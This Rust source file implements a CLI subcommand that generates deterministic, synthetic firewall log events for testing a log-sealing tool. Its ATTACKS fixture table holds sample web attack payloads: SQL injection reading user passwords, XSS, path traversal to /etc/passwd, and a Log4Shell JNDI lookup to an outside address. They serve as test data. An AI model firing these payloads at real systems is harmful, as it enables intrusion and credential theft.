//! `pqseal logs generate`: generates events for tests.

use std::{
    fs::{self, File},
    io::{self, BufWriter, Write},
    ops::Range,
    path::Path,
    sync::{
        Arc,
        atomic::{AtomicU64, Ordering},
    },
    time::Instant,
};

use clap::{Args, value_parser};
use pqseal_pipeline::{
    Compression, Compressor, Stats,
    files::{self, Live, is_address},
};
use serde_json::json;
use sha2::{Digest, Sha256};

use super::{
    Compress, CounterFormat, Meter, OutputArgs, OutputStream,
    output::{Output, OutputPath},
    unwritable,
};
use crate::{error::Error, escape, keyfile, output::Target, signals};

/// Make firewall events to test with
///
/// Writes NDJSON as log pushes have it, with Metadata.matched_data in the clear for `pqseal logs
/// seal`. Of a hundred events, ten have no matched data, and in one it is the word `truncated`,
/// which the edge logs for data that is too large. The same seed gives the same events.
#[derive(Args)]
#[command(after_long_help = crate::parse::help(&[
    ("Ten events", "pqseal logs generate 10"),
    ("A million, the same each time", "pqseal logs generate --seed 7 -o events.ndjson 1000000"),
    ("Sealed at once", "pqseal logs generate | pqseal logs seal --to public.txt"),
]))]
pub(super) struct Generate {
    /// How many events to make
    #[arg(default_value_t = 1000)]
    count: u64,
    /// The seed of the generator; the same seed gives the same events
    #[arg(long, default_value_t = 1)]
    seed: u64,
    /// Distribute the events over N files in the folder of -o, named events-1.ndjson and so on
    #[arg(long, value_name = "N", value_parser = value_parser!(u64).range(1..=1_000_000))]
    files: Option<u64>,
    /// Write the counters to standard error at the end
    #[arg(long, value_enum, value_name = "FORM")]
    stats: Option<CounterFormat>,
    #[command(flatten)]
    output: OutputArgs,
}

/// The counts of complete files and streams.
struct Written {
    records: AtomicU64,
    files: AtomicU64,
    bytes: AtomicU64,
    started: Instant,
}

impl Generate {
    pub(super) fn run(self, json: bool) -> Result<(), Error> {
        if let Some(path) = self.output.path().filter(|path| is_address(path)) {
            return Err(Error::usage(format!(
                "{} is in an object store; name a file or a folder, and upload that",
                escape::path(path)
            )));
        }
        if self.output.is_topic() {
            return Err(Error::usage(
                "records are not generated into a topic; name a file, and send it with pqseal logs seal FILE -o kafka://BROKER/TOPIC",
            ));
        }
        let output = self.output.resolve(self.files.is_none())?;
        if self.output.compress == Some(Compress::Same) {
            return Err(Error::usage(
                "there is no input for --compress same; name gzip, zstd or none",
            ));
        }
        if let OutputPath::File(path) = &output {
            keyfile::protect(Some(&Target::File(path.clone())), &[])?;
        }
        let written = Arc::new(Written::new());
        let (last_words, stats) = (Arc::clone(&written), self.stats);
        signals::before_the_end(move || {
            last_words.tell(stats);
            Error::interrupted("").report(json);
        })
        .map_err(|error| Error::io("wait for signals", &error))?;
        match (&output, self.files) {
            (OutputPath::Folder(folder), _) => self.to_folder(folder, &written)?,
            (_, Some(_)) => {
                return Err(Error::usage(
                    "--files needs an output folder; name one with -o FOLDER/",
                ));
            }
            (OutputPath::File(path), _) => {
                let compression = compression(self.output.of_file(path));
                pqseal_atomic_file::sweep(path);
                self.to_file(path, 0..self.count, compression, &written)?;
            }
            (OutputPath::Stream(stream), _) => self.to_stream(stream, &written)?,
        }
        written.tell(self.stats);
        Ok(())
    }

    fn to_folder(&self, folder: &Path, written: &Written) -> Result<(), Error> {
        fs::create_dir_all(folder).map_err(|error| unwritable(folder, &error))?;
        let compression = compression(self.output.of_folder());
        let files = self.files.unwrap_or(1);
        let width = files.to_string().len();
        let meter = Meter::new(false);
        // Once for all files, since it lists the folder.
        pqseal_atomic_file::sweep(&folder.join("events"));
        for file in 0..files {
            let name = format!("events-{:0width$}.ndjson{}", file + 1, compression.ending());
            let numbers = share(self.count, file, files)..share(self.count, file + 1, files);
            let records = numbers.end - numbers.start;
            self.to_file(&folder.join(name), numbers, compression, written)?;
            meter.batch(&Stats {
                records,
                ..Stats::default()
            });
        }
        meter.clear();
        Ok(())
    }

    fn to_file(
        &self,
        path: &Path,
        numbers: Range<u64>,
        compression: Compression,
        written: &Written,
    ) -> Result<(), Error> {
        let (mode, is_exact) = self.output.mode(0o666);
        let count = numbers.end - numbers.start;
        let write = || {
            let file = pqseal_atomic_file::beside(path, mode)?;
            if is_exact {
                set_mode(file.as_file(), mode)?;
            }
            let bytes = self.events(numbers, file.as_file(), compression)?;
            file.persist(path)?;
            Ok(bytes)
        };
        let bytes = write().map_err(|error| unwritable(path, &error))?;
        written.files.fetch_add(1, Ordering::Relaxed);
        written.add(count, bytes);
        Ok(())
    }

    fn events(
        &self,
        numbers: Range<u64>,
        file: &File,
        compression: Compression,
    ) -> io::Result<u64> {
        let mut counted = Counted::new(Compressor::new(compression, BufWriter::new(file))?);
        events(numbers, self.seed, &mut counted)?;
        counted.writer.finish()?.flush()?;
        Ok(counted.bytes)
    }

    fn to_stream(&self, stream: &OutputStream, written: &Written) -> Result<(), Error> {
        let compression = self.output.of_stream();
        let write = || {
            let output = match stream {
                OutputStream::Device(path) => Output::device(path, compression),
                // A topic was refused before.
                _ => Output::stdout(compression),
            };
            let mut counted = Counted::new(BufWriter::with_capacity(1 << 16, output?));
            events(0..self.count, self.seed, &mut counted)?;
            counted.writer.into_inner()?.finish()?;
            Ok::<_, io::Error>(counted.bytes)
        };
        let bytes = write().map_err(|error| stream.unwritable(&error))?;
        written.add(self.count, bytes);
        Ok(())
    }
}

impl Written {
    fn new() -> Self {
        Self {
            records: AtomicU64::new(0),
            files: AtomicU64::new(0),
            bytes: AtomicU64::new(0),
            started: Instant::now(),
        }
    }

    fn add(&self, records: u64, bytes: u64) {
        self.records.fetch_add(records, Ordering::Relaxed);
        self.bytes.fetch_add(bytes, Ordering::Relaxed);
    }

    fn tell(&self, form: Option<CounterFormat>) {
        let counts = [&self.records, &self.bytes, &self.files];
        let [count, bytes, files] = counts.map(|count| count.load(Ordering::Relaxed));
        let seconds = self.started.elapsed().as_secs_f64();
        let text = match form {
            None => return,
            Some(CounterFormat::Text) => {
                format!("{count} records made, {bytes} bytes, {files} files")
            }
            Some(CounterFormat::Json) => {
                json!({ "records": count, "bytes_out": bytes, "files": files, "seconds": seconds })
                    .to_string()
            }
        };
        let _ = writeln!(io::stderr(), "{text}");
    }
}

/// Returns the beginning of the `part`th of `parts` equal shares.
fn share(count: u64, part: u64, parts: u64) -> u64 {
    let start = u128::from(count) * u128::from(part) / u128::from(parts);
    u64::try_from(start).expect("a share is not larger than the whole")
}

const fn compression(output: files::OutputCompression) -> Compression {
    match output {
        files::OutputCompression::Same => Compression::None,
        files::OutputCompression::As(compression) => compression,
    }
}

#[cfg(unix)]
fn set_mode(file: &File, mode: u32) -> io::Result<()> {
    file.set_permissions(std::os::unix::fs::PermissionsExt::from_mode(mode))
}

#[cfg(not(unix))]
fn set_mode(_file: &File, _mode: u32) -> io::Result<()> {
    Ok(())
}

/// A writer that counts the bytes that it writes.
struct Counted<W> {
    writer: W,
    bytes: u64,
}

impl<W> Counted<W> {
    const fn new(writer: W) -> Self {
        Self { writer, bytes: 0 }
    }
}

impl<W: Write> Write for Counted<W> {
    fn write(&mut self, bytes: &[u8]) -> io::Result<usize> {
        let written = self.writer.write(bytes)?;
        self.bytes += written as u64;
        Ok(written)
    }

    fn flush(&mut self) -> io::Result<()> {
        self.writer.flush()
    }
}

/// The percentage of events that matched no rule which logs its payload, and that of events for
/// which the edge logged `truncated`.
const PERCENT: (u64, u64) = (10, 1);

/// Writes realistic firewall events with these `numbers`, as the log service pushes them, with the
/// matched data in the clear for `pqseal logs seal`. The same seed gives the same events.
///
/// # Errors
/// Those of the writer.
fn events(numbers: Range<u64>, seed: u64, writer: &mut impl Write) -> io::Result<()> {
    for number in numbers {
        let mut dice = Dice::new(number, seed);
        let (method, path, part, content) = ATTACKS[dice.below(ATTACKS.len())];
        let host = HOSTS[dice.below(HOSTS.len())];
        let ray = format!("{:016x}", dice.next());
        let rule = format!(
            "{:032x}",
            u128::from(dice.below(40) as u64) << 64 | 0x9dd5_3f2c
        );
        let matched = json!({ part: { "before": path, "content": content, "after": " HTTP/1.1" } });
        let metadata = match dice.next() % 100 {
            roll if roll < PERCENT.0 => json!({ "ruleset_version": "57", "type": "managed" }),
            roll if roll < PERCENT.0 + PERCENT.1 => {
                json!({ "encrypted_matched_data": "truncated", "ruleset_version": "57" })
            }
            _ => {
                json!({ "matched_data": matched.to_string(), "ruleset_version": "57", "version": "57" })
            }
        };
        let second = 1_790_000_000 + number / 50;
        let action = ["block", "log", "managed_challenge"][dice.below(3)];
        let country = ["de", "us", "br", "vn", "za"][dice.below(5)];
        let colo = ["FRA", "IAD", "GRU", "SIN"][dice.below(4)];
        let status = [403, 200, 503][dice.below(3)];
        let mut line = json!({
            "Action": action,
            "ClientASN": 64_496 + dice.below(15),
            "ClientCountry": country,
            "ClientIP": format!("198.51.100.{}", dice.below(256)),
            "ClientRequestHost": host,
            "ClientRequestMethod": method,
            "ClientRequestPath": path,
            "ClientRequestUserAgent": AGENTS[dice.below(AGENTS.len())],
            "Datetime": second * 1_000_000_000 + dice.next() % 1_000_000_000,
            "EdgeColoCode": colo,
            "EdgeResponseStatus": status,
            "Metadata": metadata,
            "RayID": ray,
            "RuleID": rule,
            "Source": "firewallManaged",
        })
        .to_string();
        line.push('\n');
        writer.write_all(line.as_bytes())?;
    }
    Ok(())
}

/// A generator of numbers from a hash of seed and place: the same on every machine and in every
/// release.
struct Dice([u8; 32], usize);

impl Dice {
    fn new(number: u64, seed: u64) -> Self {
        Self(
            Sha256::new()
                .chain_update(seed.to_be_bytes())
                .chain_update(number.to_be_bytes())
                .finalize()
                .into(),
            0,
        )
    }

    fn next(&mut self) -> u64 {
        if self.1 == self.0.len() {
            *self = Self(Sha256::digest(self.0).into(), 0);
        }
        let bytes = self.0[self.1..self.1 + 8]
            .try_into()
            .expect("32 bytes are four times 8");
        self.1 += 8;
        u64::from_be_bytes(bytes)
    }

    #[expect(
        clippy::cast_possible_truncation,
        reason = "the remainder is below a usize"
    )]
    fn below(&mut self, bound: usize) -> usize {
        (self.next() % bound as u64) as usize
    }
}

const HOSTS: [&str; 5] = [
    "shop.example.com",
    "api.example.com",
    "www.example.org",
    "login.example.net",
    "cdn.example.com",
];
const AGENTS: [&str; 4] = [
    "Mozilla/5.0 (X11; Linux x86_64; rv:140.0) Gecko/20100101 Firefox/140.0",
    "curl/8.14.1",
    "python-requests/2.32.4",
    "sqlmap/1.9#stable (https://sqlmap.org)",
];
/// The method, the path, the field that matched, and the matched content.
const ATTACKS: [(&str, &str, &str, &str); 6] = [
    (
        "GET",
        "/products?id=1",
        "http.request.uri.query",
        "1' UNION SELECT username, password FROM users--",
    ),
    (
        "POST",
        "/login",
        "http.request.body.raw",
        "user=admin&password=\"correct horse\"\r\n&next=/",
    ),
    (
        "GET",
        "/search?q=x",
        "http.request.uri.query",
        "<script>alert(\"1\")</script>",
    ),
    (
        "GET",
        "/../../etc/passwd",
        "http.request.uri.path",
        "../../etc/passwd",
    ),
    (
        "POST",
        "/api/v1/run",
        "http.request.body.raw",
        "${jndi:ldap://203.0.113.7/a}",
    ),
    (
        "GET",
        "/cms/%0Aadmin",
        "http.request.headers.values[2]",
        "caf\u{e9} \u{1b}[2J \\ end",
    ),
];
